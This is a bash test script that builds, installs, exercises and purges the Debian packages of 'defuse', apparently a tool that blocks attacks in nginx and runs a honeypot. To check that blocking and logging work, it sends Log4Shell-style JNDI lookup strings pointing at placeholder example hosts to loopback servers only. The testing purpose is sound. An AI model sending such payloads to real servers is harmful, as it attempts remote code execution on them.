#!/usr/bin/env bash
# deb_package.sh -- the Debian packages, built and used as an administrator
# would: dpkg-buildpackage -b in a copy of the tree (outside the source
# directory), lintian (reported, not fatal), then as root: dpkg -i of both
# .debs; the files are where the help texts and the unit say; Debian's
# nginx loads the module through /etc/nginx/modules-enabled (a temporary
# config on a loopback port that includes modules-enabled/*.conf) and
# blocks a payload; systemd-analyze verify of the unit; the honeypot started
# from the unit's ExecStartPre/ExecStart lines (by hand when systemd is not
# PID 1) answers on a loopback port and logs the event; then dpkg --purge
# and nothing is left behind except the defuse system user (kept, as Debian
# policy does for system users).
# Skips (77) without dpkg-buildpackage/debhelper; the install part skips
# when not root or when defuse is already installed from elsewhere.
set -u
: "${DEFUSE_SRC:?}"
# The packages are built from the source tree, not from this build: one
# run per test suite is enough, and the sanitizer suite (scripts/test.sh
# runs both) would only repeat the six-minute package build.
if [ "${DEFUSE_SANITIZED:-0}" = 1 ]; then
    echo "SKIP: the packages are checked in the release suite (this build is sanitized)"
    exit 77
fi
for t in dpkg-buildpackage dh dh_nginx; do
    if ! command -v "$t" >/dev/null; then
        echo "SKIP: $t not installed (scripts/deps.sh installs dpkg-dev, debhelper, nginx-dev)"
        exit 77
    fi
done
fails=0
fail() { echo "FAIL: $*"; fails=$((fails + 1)); }
pass() { echo "ok:   $*"; }
W=$(mktemp -d /tmp/defuse-deb.XXXXXX)
chmod 755 "$W"
NGX_PID= HP_PID= INSTALLED=0
cleanup() {
    [ -n "$NGX_PID" ] && { kill -QUIT "$NGX_PID" 2>/dev/null; wait "$NGX_PID" 2>/dev/null; }
    [ -n "$HP_PID" ] && { kill -TERM "$HP_PID" 2>/dev/null; wait "$HP_PID" 2>/dev/null; }
    if [ "$INSTALLED" = 1 ]; then dpkg --purge defuse libnginx-mod-http-defuse >/dev/null 2>&1; fi
    if [ "${KEEP_TMP:-0}" = 1 ]; then echo "kept $W"; else rm -rf "$W"; fi
}
trap cleanup EXIT

# ---- build, in a copy of the tracked and new files (no build dirs) --------
mkdir "$W/src"
(cd "$DEFUSE_SRC" && git ls-files -co --exclude-standard 2>/dev/null || find . -path ./build\* -prune -o -type f -print) |
    grep -Ev '^(\./)?build[^/]*/' | (cd "$DEFUSE_SRC" && tar -cf - -T -) | tar -C "$W/src" -xf -
start=$(date +%s)
if (cd "$W/src" && dpkg-buildpackage -b -uc -us -j2) >"$W/build.log" 2>&1; then
    pass "dpkg-buildpackage -b ($(($(date +%s) - start)) s)"
else
    tail -40 "$W/build.log"; echo "FAIL: dpkg-buildpackage"; exit 1
fi
deb=$W/defuse_*_$(dpkg --print-architecture).deb
mod=$W/libnginx-mod-http-defuse_*_$(dpkg --print-architecture).deb
deb=$(echo $deb) mod=$(echo $mod)
[ -f "$deb" ] && [ -f "$mod" ] && pass "two binary packages" || { fail "packages missing: $(ls "$W")"; exit 1; }
grep -E '^(dpkg-shlibdeps|dh_[a-z]+): warning' "$W/build.log" && fail "debhelper warnings above"
abi=$(dpkg-query -W -f='${Provides}' nginx 2>/dev/null | grep -o 'nginx-abi-[^ ,]*')
dpkg-deb -f "$mod" Depends | grep -qw -- "${abi:-nginx-abi-}" &&
    pass "module depends on the nginx ABI (${abi:-nginx not installed})" ||
    fail "module's Depends lacks ${abi:-an nginx-abi}: $(dpkg-deb -f "$mod" Depends)"
dpkg-deb -f "$deb" Depends | grep -q adduser && pass "defuse depends on adduser" || fail "defuse Depends lacks adduser"
# the webhook sink opens libcurl with dlopen() (shlibs cannot see it): the
# package recommends it, or depends on it when a program links it (defuse-probe;
# dpkg-gencontrol then drops the redundant Recommends)
{ dpkg-deb -f "$deb" Depends; dpkg-deb -f "$deb" Recommends; } | grep -qw libcurl4 &&
    pass "defuse depends on or recommends libcurl4 (webhooks)" ||
    fail "defuse neither depends on nor recommends libcurl4: $(dpkg-deb -f "$deb" Depends Recommends)"

if command -v lintian >/dev/null; then
    lintian -I --tag-display-limit 0 "$W"/defuse_*.changes >"$W/lintian.out" 2>&1
    echo "lintian: $(grep -c '^E:' "$W/lintian.out") errors, $(grep -c '^W:' "$W/lintian.out") warnings, $(grep -c '^I:' "$W/lintian.out") info"
    grep -E '^[EWI]:' "$W/lintian.out"
    # errors are real packaging bugs; warnings and info are reported only
    grep -q '^E:' "$W/lintian.out" && fail "lintian errors"
else
    echo "note: lintian not installed, not run"
fi

# ---- install (root only, and only when the machine has no defuse) ---------
if [ "$(id -u)" != 0 ]; then
    echo "SKIP (install part): not root"
    echo "$fails failed"; [ "$fails" = 0 ] && exit 0 || exit 1
fi
if dpkg-query -W -f='${Status}' defuse 2>/dev/null | grep -q installed ||
   dpkg-query -W -f='${Status}' libnginx-mod-http-defuse 2>/dev/null | grep -q installed; then
    echo "SKIP (install part): defuse packages already installed on this machine"
    echo "$fails failed"; [ "$fails" = 0 ] && exit 0 || exit 1
fi
before=$W/before.txt after=$W/after.txt
snapshot() { find /etc /usr /lib /var/log /var/lib/systemd -xdev 2>/dev/null |
             grep -Ev '^/var/lib/dpkg|^/var/log/(apt|dpkg\.log)|^/var/cache|^/etc/ld\.so\.cache|^/var/lib/systemd/deb-systemd' | sort; }
snapshot >"$before"
INSTALLED=1
if dpkg -i "$deb" "$mod" >"$W/dpkg.log" 2>&1; then pass "dpkg -i both packages"
else cat "$W/dpkg.log"; fail "dpkg -i"; exit 1; fi

for f in /usr/bin/defuse /usr/bin/defuse-scan /usr/bin/defuse-honeypot /usr/bin/defuse-register /usr/bin/defuse-report /usr/bin/defuse-probe /usr/share/defuse/vulndb.json \
         /etc/defuse/honeypot.conf /lib/systemd/system/defuse-honeypot.service \
         /usr/share/man/man1/defuse.1.gz /usr/share/man/man1/defuse-logs.1.gz /usr/share/man/man1/defuse-scan.1.gz /usr/share/man/man1/defuse-register.1.gz /usr/share/man/man1/defuse-report.1.gz /usr/share/man/man1/defuse-probe.1.gz \
         /usr/share/man/man1/defuse-explain.1.gz /usr/share/man/man1/defuse-honeypot.1.gz \
         /usr/share/man/man5/defuse-honeypot.conf.5.gz /usr/share/man/man8/ngx_http_defuse_module.8.gz \
         /usr/share/bash-completion/completions/defuse /usr/share/zsh/vendor-completions/_defuse \
         /usr/share/fish/vendor_completions.d/defuse.fish /usr/share/doc/defuse/honeypot.md.gz \
         /usr/share/doc/defuse/examples/rsyslog-defuse.conf \
         /usr/lib/nginx/modules/ngx_http_defuse_module.so /usr/share/nginx/modules-available/mod-http-defuse.conf; do
    [ -e "$f" ] && pass "installed $f" || fail "missing $f"
done
[ "$(readlink /etc/nginx/modules-enabled/50-mod-http-defuse.conf)" = /usr/share/nginx/modules-available/mod-http-defuse.conf ] &&
    pass "module enabled: /etc/nginx/modules-enabled/50-mod-http-defuse.conf" || fail "module not enabled in modules-enabled"
getent passwd defuse >/dev/null && pass "system user defuse" || fail "no defuse user"
[ "$(getent passwd defuse | cut -d: -f7)" = /usr/sbin/nologin ] || fail "defuse user has a login shell"
[ "$(stat -c '%U:%G %a' /var/log/defuse 2>/dev/null)" = "root:adm 750" ] && pass "/var/log/defuse root:adm 750" ||
    fail "/var/log/defuse: $(stat -c '%U:%G %a' /var/log/defuse 2>&1)"
[ "$(stat -c '%G %a' /etc/defuse/honeypot.conf)" = "defuse 640" ] && pass "honeypot.conf group defuse 640" ||
    fail "honeypot.conf: $(stat -c '%U:%G %a' /etc/defuse/honeypot.conf)"
grep -q '^user  *defuse$' /etc/defuse/honeypot.conf && pass "honeypot.conf drops to user defuse" || fail "honeypot.conf user is not defuse"
defuse scan --version | grep -q '^vulndb ' && pass "defuse scan runs from /usr/bin" || fail "defuse scan --version"
man -w defuse-honeypot.conf >/dev/null 2>&1 && pass "man defuse-honeypot.conf found" || fail "man -w defuse-honeypot.conf"
# scan finds the vulndb of the package (the help text names the installed one)
strace_ok=$(command -v strace)
if [ -n "$strace_ok" ]; then
    strace -f -e trace=openat -o "$W/strace" defuse scan "$W/src/data" >/dev/null 2>&1
    grep -q '/usr/share/defuse/vulndb.json' "$W/strace" && pass "defuse scan reads /usr/share/defuse/vulndb.json" ||
        fail "defuse scan did not open /usr/share/defuse/vulndb.json"
fi

# ---- nginx through the Debian layout ---------------------------------------
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1]); s.close()')
N=$W/nginx; mkdir -p "$N/logs" "$N/tmp"
cat >"$N/nginx.conf" <<CONF
include /etc/nginx/modules-enabled/*.conf;
user root;
worker_processes 1;
daemon off;
pid $N/nginx.pid;
error_log $N/logs/error.log info;
events { worker_connections 64; }
http {
    client_body_temp_path $N/tmp/body; proxy_temp_path $N/tmp/proxy; fastcgi_temp_path $N/tmp/fcgi;
    uwsgi_temp_path $N/tmp/uwsgi; scgi_temp_path $N/tmp/scgi;
    access_log $N/logs/access.log;
    server { listen 127.0.0.1:$port; defuse on; location / { return 200 "ok\n"; } }
}
CONF
# (Debian's prefix, against which load_module modules/... resolves)
/usr/sbin/nginx -p /usr/share/nginx -c "$N/nginx.conf" -e "$N/logs/error.log" >"$N/logs/stdout.log" 2>&1 &
NGX_PID=$!
for i in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$port/" && break; sleep 0.1; done
ok=$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$port/hello")
bad=$(curl -s -o /dev/null -w '%{http_code}' -H 'User-Agent: ${jndi:ldap://x.example/a}' "http://127.0.0.1:$port/")
[ "$ok" = 200 ] && [ "$bad" = 403 ] && pass "packaged module: benign 200, payload 403" ||
    { fail "packaged module: benign $ok, payload $bad"; cat "$N/logs/error.log" "$N/logs/stdout.log"; }
kill -QUIT "$NGX_PID"; wait "$NGX_PID" 2>/dev/null; NGX_PID=

# ---- the honeypot's unit ------------------------------------------------------
U=/lib/systemd/system/defuse-honeypot.service
if command -v systemd-analyze >/dev/null; then
    if out=$(systemd-analyze verify "$U" 2>&1); then pass "systemd-analyze verify $U"
    else
        # without a running systemd, verify may only complain about its own bus
        if grep -qv -e 'Failed to' -e 'bus' <<<"$out"; then fail "systemd-analyze verify: $out"
        else echo "note: systemd-analyze verify could not run here: $out"; fi
    fi
else
    echo "note: systemd-analyze not installed"
fi
execpre=$(sed -n 's/^ExecStartPre=//p' "$U") exec=$(sed -n 's/^ExecStart=//p' "$U")
# (When systemd is PID 1 too: starting the unit itself would open the
# shipped config's public ports, so its command lines are run by hand.)
# The shipped config listens on 389/53/8080...: run the unit's command lines
# with a loopback copy of it (same keys, one http listener on a free port).
hport=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1]); s.close()')
awk '/^\[listener /{exit} {print}' /etc/defuse/honeypot.conf | sed "s#^log_file .*#log_file /var/log/defuse/honeypot.jsonl#" >"$W/hp.conf"
printf '[listener web]\nprotocol http\nlisten 127.0.0.1:%s\n' "$hport" >>"$W/hp.conf"
pre=${execpre//\/etc\/defuse\/honeypot.conf/$W/hp.conf} run=${exec//\/etc\/defuse\/honeypot.conf/$W/hp.conf}
if $pre >"$W/check.out" 2>&1; then pass "ExecStartPre: $pre"; else fail "ExecStartPre failed: $(cat "$W/check.out")"; fi
$run >"$W/hp.out" 2>&1 &
HP_PID=$!
for i in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$hport/" && break; sleep 0.1; done
curl -s -o /dev/null -A '${jndi:ldap://cb.example/x}' "http://127.0.0.1:$hport/login"
sleep 0.5
if grep -q 'cb\[\?\.\]\?example\|jndi' /var/log/defuse/honeypot.jsonl 2>/dev/null; then
    pass "honeypot from ExecStart logged the payload to /var/log/defuse/honeypot.jsonl"
else
    fail "honeypot did not log: $(cat "$W/hp.out"; tail -3 /var/log/defuse/honeypot.jsonl 2>&1)"
fi
hpuser=$(ps -o user= -p "$HP_PID" 2>/dev/null | tr -d ' ')
[ "$hpuser" = defuse ] && pass "honeypot runs as defuse after binding" || fail "honeypot runs as '$hpuser'"
kill -TERM "$HP_PID"; wait "$HP_PID" 2>/dev/null; HP_PID=

# ---- purge --------------------------------------------------------------------
if dpkg --purge libnginx-mod-http-defuse defuse >"$W/purge.log" 2>&1; then pass "dpkg --purge"
else cat "$W/purge.log"; fail "dpkg --purge"; fi
INSTALLED=0
snapshot >"$after"
left=$(comm -13 "$before" "$after")
[ -z "$left" ] && pass "nothing left behind after purge" || fail "left behind after purge: $left"
gone=$(comm -23 "$before" "$after")
[ -z "$gone" ] && pass "nothing of the system removed" || fail "removed by install+purge: $gone"
getent passwd defuse >/dev/null && echo "note: system user defuse kept after purge (Debian policy)"
echo "$fails failed"
[ "$fails" = 0 ]
